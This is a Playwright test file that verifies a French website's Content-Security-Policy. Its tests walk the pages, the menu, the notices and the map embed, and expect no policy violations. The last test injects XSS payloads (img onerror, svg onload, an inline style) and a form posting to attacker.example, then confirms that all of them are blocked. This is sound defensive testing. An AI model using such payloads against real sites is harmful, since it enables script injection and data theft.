import type { Page } from "playwright-core";
import { hydrate, islandControl } from "../../tools/hydration";
import { paths, unknownPath } from "../../tools/routes";
import { newVisit, sharedTab, siteUrl, type Visit, withBuiltSite } from "../support/browser";
import { sendButton } from "../support/contact-page";

withBuiltSite();

/** The same pages, with what the browser has refused because of the Content-Security-Policy or a digest. */
async function watchedVisit(path: string): Promise<Visit & { refused: () => Promise<string[]> }> {
  const visit = await newVisit();
  await watch(visit.page);
  await visit.page.goto(siteUrl(path));
  return { ...visit, refused: () => refusedOn(visit.page) };
}

function watch(page: Page): Promise<unknown> {
  return page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sample }) =>
      refused.push(`${violatedDirective} ${blockedURI} ${sample}`),
    );
  });
}

function refusedOn(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { refused: string[] }).refused);
}

const open = sharedTab({}, watch);

test.each([...paths, unknownPath])("%s does all it does without breaking the policy", async (path) => {
  const { page, problems } = await open(path);
  if (await page.locator(islandControl).count()) await hydrate(page);
  await page.evaluate(() => scrollTo({ top: document.body.scrollHeight, behavior: "instant" }));
  await page.waitForLoadState("networkidle");
  expect(await refusedOn(page)).toEqual([]);
  expect(problems.filter((problem) => /policy|integrity/i.test(problem))).toEqual([]);
  // Texts of data/ that read as a script would set this.
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
});

test("neither the menu, nor a walk through the site, nor the notices, nor the map break it", async () => {
  const { page, problems, refused } = await watchedVisit("/");
  // The window is resized below: the browser complains about a cross-fade that this interrupts.
  await page.emulateMedia({ reducedMotion: "reduce" });
  await page.setViewportSize({ width: 390, height: 844 });
  for (const path of ["/solutions", "/projets", "/a-propos", "/contact"]) {
    await page.locator("header button[popovertarget]").click();
    await page.locator(`header nav a[href="${path}"]`).click();
    await page.waitForURL(siteUrl(path));
  }
  await page.setViewportSize({ width: 1280, height: 800 });
  await sendButton(page).click();
  await page.getByText("Vous devez accepter l'utilisation de vos données.").first().waitFor();
  await page.locator("iframe").scrollIntoViewIfNeeded();
  await page.frameLocator("iframe").getByText("Carte").waitFor();
  expect(await refused()).toEqual([]);
  expect(problems).toEqual([]);
});

test("notices get the styles of their library although the policy forbids style elements", async () => {
  const { page } = await watchedVisit("/contact");
  await sendButton(page).click();
  const container = page.locator(".notistack-SnackbarContainer");
  await container.waitFor();
  expect(await container.evaluate((element) => getComputedStyle(element).position)).toBe("fixed");
});

test("an injected script does not run, an injected style does not apply, a form goes nowhere else", async () => {
  const { page, refused } = await watchedVisit("/");
  await page.evaluate(() => {
    document.body.insertAdjacentHTML(
      "beforeend",
      `<style>h1 { display: none }</style><img src="x" onerror="window.hacked = 1" alt="">
       <form action="https://attacker.example/" method="post"></form>`,
    );
    const script = document.createElement("div");
    script.innerHTML = "<svg onload='window.hacked = 1'></svg>";
    document.body.append(script);
  });
  // Not by a click: the page's own script would hold that back.
  await page.evaluate(() => [...document.forms].at(-1)?.submit());
  await page.waitForTimeout(200);
  expect(page.url()).toBe(siteUrl("/"));
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  expect(await page.getByRole("heading", { level: 1 }).isVisible()).toBe(true);
  expect((await refused()).map((line) => line.split(" ")[0])).toEqual(
    expect.arrayContaining(["style-src-elem", "script-src-attr", "form-action"]),
  );
});
